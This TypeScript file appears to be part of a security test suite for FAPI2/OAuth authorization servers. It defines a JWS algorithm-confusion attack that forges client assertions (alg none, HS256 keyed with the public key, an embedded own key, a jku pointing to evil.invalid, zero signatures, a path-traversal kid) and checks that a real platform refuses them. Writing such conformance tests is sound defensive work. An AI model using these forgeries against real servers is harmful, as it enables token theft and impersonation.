import type { KeyObject } from 'node:crypto';
import { createPublicKey, generateKeyPairSync } from 'node:crypto';
import { WEAK_CLIENT } from '../control-group/bearer/bearer-authorization-server.ts';
import type { Attack } from '../run/attack.ts';
import { IC } from '../run/refusal.ts';
import type { Text } from '../run/text.ts';
import { httpsCall } from '../wire/https-call.ts';
import type { Members, Signer } from '../wire/forged-jws.ts';
import { allZero, compactJws, es256, hs256, readJws, unsigned } from '../wire/forged-jws.ts';
import { Secret } from '../wire/secret.ts';
import { pushInItsName } from './assertions.ts';
import { tokenIn } from './loot.ts';
import { linkAlice, ownerIsServed } from './victim.ts';

export const algorithmConfusion: Attack = {
  id: 'C14',
  slug: 'jws-alg-confusion',
  title: { en: 'A signature that chooses its own check', ja: '検証方法を自分で選ぶ署名' },
  story: {
    en: 'The header of a signed object says how to verify it. I write the header: no algorithm at all, the public key as a password, or a key of my own.',
    ja: '署名付きオブジェクトのヘッダーには検証方法が書かれています。書くのは私です。アルゴリズムなし、公開鍵をパスワード代わりに、あるいは自分の鍵を指定します。',
  },
  attacker: 'A1',
  holds: { en: 'the client’s public key, as everybody does', ja: '誰でも手に入るクライアントの公開鍵' },
  clauses: ['FAPI2-SP-FINAL-5.4.1-1', 'FAPI2-SP-FINAL-5.4.2', 'RFC8725-3.1', 'RFC8725-3.2'],
  control: 'bearer',

  async onControl({ bearer, holds, steal }) {
    const { assertionBeliever: server } = bearer;
    holds({ en: 'the fintech’s public key', ja: 'フィンテックの公開鍵' }, shown(server.publicKey));
    const claims = { iss: WEAK_CLIENT, sub: WEAK_CLIENT, aud: server.tokenEndpoint };
    for (const { variant, what, header, signer } of forgeries(server.publicKey).filter(({ works }) => works))
      await steal({
        variant,
        what,
        act: () =>
          httpsCall(bearer.thief, {
            method: 'POST',
            url: server.tokenEndpoint,
            form: [
              ['client_id', WEAK_CLIENT],
              ['client_assertion', new Secret(compactJws({ alg: 'ES256', ...header }, claims, signer))],
            ],
          }),
        proof: tokenIn,
      });
  },

  async onReal(stage) {
    const { real, holds, attempt } = stage;
    const { assertion: client } = real;
    const victim = await linkAlice(stage, client);
    const publicKey = createPublicKey(client.key.privateKey);
    // What the honest client says in an assertion is no secret either.
    const honest = () => readJws(client.assertion().reveal());
    holds({ en: 'the client’s public key', ja: 'クライアントの公開鍵' }, shown(publicKey));
    for (const { variant, what, reason, header, signer } of forgeries(publicKey))
      await attempt({
        variant,
        what,
        act: () => {
          const said = honest();
          return pushInItsName(real, new Secret(compactJws({ ...said.header, ...header }, said.claims, signer)));
        },
        refusedWith: [IC],
        reason: `client_assertion_${reason}`,
      });
    await ownerIsServed(stage, victim);
  },
};

interface Forgery {
  readonly variant: string;
  readonly what: Text;
  readonly header: Members;
  readonly signer: Signer;
  /** The end of the reason the real platform must give. */
  readonly reason: string;
  /** On the control group, which knows no others. */
  readonly works: boolean;
}

function forgeries(known: KeyObject): readonly Forgery[] {
  const own = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const { kty, crv, x, y } = own.publicKey.export({ format: 'jwk' });
  const mine = es256(own.privateKey);
  const forgery = (
    variant: string,
    what: Text,
    [header, signer]: readonly [Members, Signer],
    reason = 'signature_invalid',
    works = false,
  ): Forgery => ({ variant, what, header, signer, reason, works });
  const asPassword = { en: 'HS256, the public key as the password', ja: 'HS256、公開鍵をパスワードに' };
  return [
    forgery('a', { en: 'alg: none', ja: 'alg: none' }, [{ alg: 'none' }, unsigned], 'algorithm_not_allowed', true),
    forgery('b', { en: 'alg: None', ja: 'alg: None' }, [{ alg: 'None' }, unsigned], 'algorithm_not_allowed', true),
    forgery('c', asPassword, [{ alg: 'HS256' }, hs256(spki(known))], 'algorithm_not_allowed', true),
    forgery(
      'd',
      { en: 'a key of my own in the header', ja: 'ヘッダーに自分の鍵' },
      [{ jwk: { kty, crv, x, y } }, mine],
      'signature_invalid',
      true,
    ),
    forgery('e', { en: 'the address of my key', ja: '自分の鍵のURL' }, [{ jku: 'https://evil.invalid/jwks' }, mine]),
    forgery('f', { en: 'a signature of zeros', ja: 'すべてゼロの署名' }, [{}, allZero]),
    forgery('g', { en: 'a kid that is a path', ja: 'パスを装うkid' }, [{ kid: '../../dev/null' }, mine], 'key_unknown'),
    forgery(
      'h',
      { en: 'an extension nobody understands', ja: '誰も知らない拡張' },
      [{ crit: ['x'], x: true }, mine],
      'malformed',
    ),
  ];
}

/** As much of a key as an audience wants to see. */
const shown = (key: KeyObject): string => `${spki(key).split('\n')[1]?.slice(0, 16) ?? ''}…`;

const spki = (key: KeyObject): string => key.export({ type: 'spki', format: 'pem' }).toString();
